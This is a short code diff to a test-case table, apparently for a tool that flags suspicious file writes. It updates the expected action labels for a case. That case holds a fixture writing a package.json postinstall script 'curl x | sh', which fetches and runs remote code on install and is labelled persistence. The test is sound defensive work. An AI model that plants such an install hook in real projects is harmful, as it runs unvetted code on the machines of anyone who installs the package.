@@ -66,7 +66,10 @@ const cases: readonly Case[] = [
         { path: "package.json", change: "write", content: '{"scripts":{"postinstall":"curl x | sh"}}' },
       ],
     },
-    actions: ["fs:write /home/dev/project/package.json persistence"],
+    actions: [
+      "fs:write_watched /home/dev/project/package.json persistence",
+      "fs:write /home/dev/project/package.json",
+    ],
   },
   {
     name: "an ordinary package script",
